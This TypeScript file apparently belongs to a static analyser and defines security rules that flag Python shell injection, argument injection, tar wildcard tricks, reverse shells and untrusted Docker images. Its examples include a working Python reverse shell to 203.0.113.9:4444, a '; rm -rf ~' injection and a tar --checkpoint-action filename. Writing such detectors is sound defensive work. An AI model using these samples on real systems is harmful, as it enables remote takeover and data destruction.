import { argument, type Call, givenValue, hasSpread } from '../flow/call.ts';
import type { Value } from '../flow/value.ts';
import { judge, judgeOutside } from '../judge.ts';
import { example, forEach, type Look, type PythonRule, pythonRule, type Seen } from '../python-rule.ts';

const running = ['run', 'call', 'check_call', 'check_output', 'Popen'];
const isSubprocess = (call: Call): boolean => /^subprocess\.|^subprocess32\./.test(call.name);

/** `shell=True`, and what Python takes for it: `1`, and `"False"`. */
function withShell(call: Call, look: Look): boolean {
  const given = argument(call, -1, 'shell');
  return given !== null && /^(True|[1-9]\d*|["'].+["'])$/.test(look.textOf(given.node));
}

function reportCommand(call: Call, value: Value, look: Look): void {
  const judged = judge(value);
  if (!judged) return;
  look.report(call.node, {
    ...judged.seen,
    message: `A shell reads this command, part of which ${judged.whence}`,
  });
}

const shells =
  /^(os\.(system|popen|popen[234])|posix\.system|commands\.(getoutput|getstatusoutput)|subprocess\.(getoutput|getstatusoutput)|popen2\.popen[234]?|asyncio\.create_subprocess_shell|asyncio\.subprocess\.create_subprocess_shell|(\?|\w+|.*\(\))\.subprocess_shell|pty\.spawn)$/;
const remote = /(^|\.)(paramiko\.SSHClient\(\)|ssh|ssh_client|sshclient)\.exec_command$/i;

export const shellCommand = pythonRule({
  id: 'python/shell-command',
  title: 'Shell command made from a value',
  severity: 'high',
  confidence: 'likely',
  weakness: ['CWE-78'],
  kind: 'security',
  what: '`os.system`, `os.popen`, `subprocess` with `shell=True` or their like get a command that is put together.',
  why: 'Whoever chooses a part of it adds `; rm -rf ~` or `$(…)`, and the shell runs it with the rights of your program.',
  fix: 'Call the program without a shell, its arguments as a list: `subprocess.run(["convert", name])`; quote with `shlex.quote` where a shell is needed.',
  aliases: ['B602', 'B605', 'S602', 'S605'],
  bad: [
    example(
      'import os',
      'from flask import request',
      '@app.route("/ping")',
      'def ping():',
      '    os.system("ping -c 1 " + request.args["host"])',
    ),
    example(
      'import subprocess',
      'def archive(name):',
      '    subprocess.run(f"tar cf {name}.tar .", shell=True)',
    ),
  ],
  good: [
    example('import os', 'os.system("clear")'),
    example('import subprocess', 'def archive(name):', '    subprocess.run(["tar", "cf", name, "."])'),
    example('import os, shlex', 'def show(name):', '    os.system("ls " + shlex.quote(name))'),
  ],
  references: ['https://docs.python.org/3/library/subprocess.html#security-considerations'],
  words:
    /\b(system|popen\w?|getoutput|getstatusoutput|shell|subprocess_shell|create_subprocess_shell|exec_command|BashOperator)\b/,
  calls: {
    ...forEach(
      [
        'system',
        'popen',
        'popen2',
        'popen3',
        'popen4',
        'getoutput',
        'getstatusoutput',
        'create_subprocess_shell',
        'subprocess_shell',
      ],
      (call: Call, look: Look) => {
        if (shells.test(call.name))
          reportCommand(
            call,
            givenValue(call, call.method === 'subprocess_shell' && call.arguments.length > 1 ? 1 : 0, 'cmd'),
            look,
          );
      },
    ),
    BashOperator(call, look) {
      const command = argument(call, 1, 'bash_command') ?? argument(call, 0);
      if (command?.value.built) reportCommand(call, command.value, look);
    },
    exec_command(call, look) {
      if (!remote.test(call.name) && !/SSHClient\(\)/.test(call.name)) return;
      reportCommand(call, givenValue(call, 0, 'command'), look);
    },
    ...forEach(running, (call: Call, look: Look) => {
      if (!isSubprocess(call) || !withShell(call, look)) return;
      reportCommand(call, givenValue(call, 0, 'args'), look);
    }),
  },
});

const spawning =
  /^(os\.(exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?|startfile)|asyncio\.create_subprocess_exec|asyncio\.subprocess\.create_subprocess_exec|(\?|\w+|.*\(\))\.subprocess_exec|pty\.spawn|pexpect\.(spawn|run))$/;

export const processOfInput = pythonRule({
  id: 'python/process-of-input',
  title: 'Program or arguments chosen from outside',
  severity: 'high',
  confidence: 'likely',
  weakness: ['CWE-78', 'CWE-88'],
  kind: 'security',
  what: 'A process is started, without a shell, whose program or arguments come from a request or the command line.',
  why: 'Many programs do anything when asked with the right option (`--upload-pack=…`, `-o ProxyCommand=…`).',
  fix: 'Name the program in the code, choose arguments from a list of your own, and put `--` before a value that is free.',
  bad: [
    example(
      'import subprocess',
      'from flask import request',
      'def clone():',
      '    subprocess.run(["git", "clone", request.form["url"]])',
    ),
  ],
  good: [
    example('import subprocess', 'def clone(url):', '    subprocess.run(["git", "clone", "--", url])'),
    example(
      'import subprocess',
      'from flask import request',
      'def show():',
      '    page = int(request.args["page"])',
      '    subprocess.run(["pdftoppm", "-f", page, "book.pdf"])',
    ),
  ],
  words:
    /\b(subprocess\w*|exec[lv]p?e?|spawn[lv]?p?e?|posix_spawnp?|startfile|create_subprocess_exec|pexpect|sh)\b/,
  calls: {
    '*': (call, look) => {
      // Every program is a function of the module `sh`.
      if (/^sh\.[a-z]\w*$/.test(call.name))
        reportProcess(
          call,
          look,
          call.arguments.filter(({ value }) => value.built).map(({ value }) => value),
        );
    },
    ...forEach(running, (call: Call, look: Look) => {
      if (!isSubprocess(call) || withShell(call, look)) return;
      const given = argument(call, 0, 'args');
      if (!given) return;
      // One string is the name of one program, but on Windows what follows its first word are arguments.
      const isOneName = given.value.prefix !== '' && !/^(list|tuple)$/.test(given.node.type);
      reportProcess(call, look, [given.value], isOneName ? { confidence: 'review', severity: 'medium' } : {});
    }),
    ...forEach(
      [
        'execl',
        'execle',
        'execlp',
        'execlpe',
        'execv',
        'execve',
        'execvp',
        'execvpe',
        'spawnl',
        'spawnle',
        'spawnlp',
        'spawnlpe',
        'spawnv',
        'spawnve',
        'spawnvp',
        'spawnvpe',
        'posix_spawn',
        'posix_spawnp',
        'startfile',
        'create_subprocess_exec',
        'subprocess_exec',
        'spawn',
      ],
      (call: Call, look: Look) => {
        if (!spawning.test(call.name)) return;
        reportProcess(
          call,
          look,
          call.arguments.map(({ value }) => value),
        );
        // Before the program stand a mode, or what makes the protocol.
        const program = judge(givenValue(call, /^spawn[lv]|^subprocess_exec$/.test(call.method) ? 1 : 0));
        if (program) look.report(call.node, { ...program.seen, message: `The program ${program.whence}` });
      },
    ),
  },
});

function reportProcess(call: Call, look: Look, values: readonly Value[], milder: Partial<Seen> = {}): void {
  for (const value of values) {
    const judged = judgeOutside(value, 'web', 'local');
    // The environment handed on is what every process has.
    if (!judged || value.name === 'os.environ') continue;
    look.report(call.node, { ...judged.seen, ...milder, message: `What is started here ${judged.whence}` });
    return;
  }
}

export const wildcardArgument = pythonRule({
  id: 'python/wildcard-argument',
  title: 'Wildcard that file names can turn into options',
  severity: 'medium',
  confidence: 'review',
  weakness: ['CWE-155'],
  kind: 'security',
  what: 'A shell command hands `*` to `tar`, `chown`, `chmod` or `rsync`.',
  why: 'A file called `--checkpoint-action=exec=sh x.sh` becomes an option of the program.',
  fix: 'Write `./*`, or end the options with `--`.',
  bad: [example('import os', 'os.system("tar cf backup.tar *")')],
  good: [example('import os', 'os.system("tar cf backup.tar ./*")')],
  words: /\b(tar|chown|chmod|rsync)\b[^"'\n]{0,200}\*/,
  calls: {
    '*': (call, look) => {
      const command = givenValue(call, 0, 'args').text;
      if (command === null || !(shells.test(call.name) || (isSubprocess(call) && withShell(call, look))))
        return;
      if (/\b(tar|chown|chmod|rsync)\b(?![^;|&]*\s--\s)[^;|&]*\s\*/.test(command))
        look.report(call.node, { message: 'File names in the folder are read as options here' });
    },
  },
});

export const reverseShell = pythonRule({
  id: 'python/reverse-shell',
  title: 'Shell whose input is a network connection',
  severity: 'critical',
  confidence: 'likely',
  weakness: ['CWE-553'],
  kind: 'security',
  what: 'The standard input and output are replaced by a socket, and a shell is started.',
  why: 'Whoever listens at the other end commands the machine: the usual last step of an attack.',
  fix: 'Remove it, and find out how it came here.',
  bad: [
    example(
      'import os, pty, socket',
      's = socket.socket()',
      's.connect(("203.0.113.9", 4444))',
      'os.dup2(s.fileno(), 0)',
      'pty.spawn("/bin/sh")',
    ),
  ],
  good: [example('import os', 'os.dup2(log.fileno(), 1)')],
  words: /\bdup2\b/,
  calls: {
    dup2(call, look) {
      const socketLike = /\bsocket\b|\bs(ock)?\b/.test(argument(call, 0)?.value.name ?? '');
      if (
        call.name === 'os.dup2' &&
        socketLike &&
        !hasSpread(call) &&
        /["'](\/bin\/)?(ba|z|da)?sh["']/.test(look.file.text)
      )
        look.report(call.node, { message: 'A network connection becomes the input of a shell' });
    },
  },
});

export const containerOfValue = pythonRule({
  id: 'python/container-of-value',
  title: 'Container started from an image that is not in the code',
  severity: 'medium',
  confidence: 'review',
  weakness: ['CWE-250'],
  kind: 'security',
  what: '`containers.run` or `containers.create` of Docker’s SDK gets an image, or a command, that is not in the code.',
  why: 'Whoever chooses the image runs what they like, with whatever the container is given: networks, volumes, the daemon itself.',
  fix: 'Choose the image from a list of your own, by digest, and start it with as few rights as it needs.',
  bad: [
    example(
      'import docker',
      'client = docker.from_env()',
      'def start(image):',
      '    client.containers.run(image)',
    ),
  ],
  good: [
    example('import docker', 'client = docker.from_env()', 'client.containers.run("alpine:3.20", "date")'),
  ],
  references: ['https://docker-py.readthedocs.io/en/stable/containers.html'],
  words: /\bdocker\b/,
  calls: forEach(['run', 'create'], (call: Call, look: Look) => {
    if (!/(^|\.)containers\.(run|create)$/.test(call.name)) return;
    for (const given of [argument(call, 0, 'image'), argument(call, 1, 'command')]) {
      const judged = given && judge(given.value);
      if (judged)
        return look.report(call.node, { ...judged.seen, message: `What runs here ${judged.whence}` });
    }
  }),
});

export const commandRules: readonly PythonRule[] = [
  containerOfValue,
  shellCommand,
  processOfInput,
  wildcardArgument,
  reverseShell,
];
